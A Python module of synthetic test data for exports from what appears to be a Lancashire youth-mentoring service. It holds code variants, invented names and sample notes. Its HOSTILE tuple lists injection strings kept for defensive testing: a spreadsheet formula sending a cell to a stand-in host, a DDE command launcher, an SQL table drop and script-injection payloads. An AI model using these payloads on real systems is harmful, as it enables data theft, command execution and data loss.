"""How people write things in exports: the ways of writing each code, made-up names, and free text nobody should read.

The repository's ``sources.yaml`` maps every way of writing back to its code; a test holds the two together.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

Ways = Mapping[str, tuple[str, ...]]
"""The ways of writing each code; one is drawn for each row."""

SEX: Ways = MappingProxyType(
    {
        "female": ("F", "F", "Female", "female"),
        "male": ("M", "M", "Male", "male"),
        "other": ("X", "Other"),
        "not_recorded": ("U", "Not recorded"),
    },
)
ETHNICITY: Ways = MappingProxyType(
    {
        "asian": ("A1 - Indian", "A2 - Pakistani", "A3 - Bangladeshi", "A9 - Any other Asian"),
        "black": ("B1 - Caribbean", "B2 - African"),
        "mixed": ("M1 - White & Black Caribbean", "M3 - White & Asian", "M9 - Any other mixed"),
        "white": ("W1 - British", "W1 - British", "W1 - British", "W9 - Any other White"),
        "other": ("O9 - Any other",),
        "not_recorded": ("NS - Not stated", "Unknown"),
    },
)
DISTRICT: Ways = MappingProxyType(
    {
        "blackburn_with_darwen": ("Blackburn with Darwen", "Blackburn w Darwen", "BwD"),
        "blackpool": ("Blackpool", "B'pool"),
        "burnley": ("Burnley",),
        "chorley": ("Chorley",),
        "fylde": ("Fylde",),
        "hyndburn": ("Hyndburn", "Hyndburn (Accrington)"),
        "lancaster": ("Lancaster", "Lancaster & Morecambe"),
        "pendle": ("Pendle", "PENDLE"),
        "preston": ("Preston", "preston"),
        "ribble_valley": ("Ribble Valley", "R Valley"),
        "rossendale": ("Rossendale",),
        "south_ribble": ("South Ribble", "S Ribble"),
        "west_lancashire": ("West Lancashire", "West Lancs", "W Lancs"),
        "wyre": ("Wyre",),
        "outside_lancashire": ("Out of area",),
        "not_recorded": ("Not known", "NFA"),
    },
)
SOURCE: Ways = MappingProxyType(
    {
        "police": (
            "Police - custody",
            "Police - neighbourhood team",
            "Police - neighbourhood team",
            "Lancashire Police",
        ),
        "education": ("School / college", "Pupil referral unit"),
        "prison": ("HMP / YOI",),
        "probation": ("Probation Service",),
        "health": ("NHS", "CAMHS"),
        "social_care": ("Children's Social Care",),
        "youth_justice": ("Youth Justice Service", "YOT"),
        "self": ("Self-referral",),
        "family": ("Parent / carer",),
        "other": ("Other",),
    },
)
ROLE: Ways = MappingProxyType(
    {
        "mentor": ("Mentor", "Champions Mentor"),
        "coach": ("Coach", "Community Coach"),
        "other": ("Family support worker", "Volunteer"),
    },
)
ATTENDED: Ways = MappingProxyType({"True": ("Y",), "False": ("DNA", "N", "DNA")})
EVENT: Ways = MappingProxyType(
    {
        "suspect": ("SUSP",),
        "charge": ("CHG",),
        "non_conviction": ("NFA", "NFA", "OUT"),
        "conviction": ("CONV",),
        "asb": ("ASB",),
        "victim": ("VICT",),
        "hospital_admission": ("HOSP",),
    },
)

# names of no real client; accents and apostrophes are there for the encoding's sake
FORENAMES = (
    "Aaliyah", "Adam", "Amélie", "Ayesha", "Ben", "Callum", "Chloë", "Connor", "Dylan", "Ellie", "François", "Hamza",
    "Harley", "Imran", "Jack", "Jayden", "Joel", "Kai", "Kian", "Leah", "Logan", "Maisie", "Mason", "Mohammed", "Noah",
    "Owen", "Renée", "Riley", "Ryan", "Siân", "Tyler", "Umar", "Zoë", "Zak",
)  # fmt: skip
SURNAMES = (
    "Ahmed", "Ainsworth", "Ashworth", "Barnes", "Birtwistle", "Brown", "Cartwright", "D’Arcy", "Duckworth", "Eastham",  # noqa: RUF001 - as Excel writes it
    "Entwistle", "Fielding", "García", "Greenhalgh", "Hargreaves", "Haworth", "Hussain", "Iqbal", "Khan", "Kershaw",
    "Müller", "Núñez", "O'Brien", "O'Neill", "Patel", "Pickup", "Ramsbottom", "Rigby", "Shah", "Smith", "St. John-Lord",
    "Taylor", "Walmsley", "Whittaker",
)  # fmt: skip
NOTES = (
    "Keen on boxing; prefers afternoons",
    "Lives with nan",
    'Says "not bothered" about school, see file',
    "Moved address twice\nnew number on system",
    "Loves football, plays left wing",
)
# what a spreadsheet or a web page would run if it ever got there; none of these columns is mapped
HOSTILE = (
    '=HYPERLINK("https://example.invalid/?q="&A1,"open")',
    "<script>alert(1)</script>",
    "+44 1234 567890 @SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE clients;--",
    "<img src=x onerror=alert(1)>",
)
REASONS = ("Repeat ASB in the town centre", "At risk of exclusion", "Knife found at school", "Released next week", "")
PRISONS = ("HMP Preston", "HMP Lancaster Farms", "HMYOI Wetherby", "HMP Forest Bank")
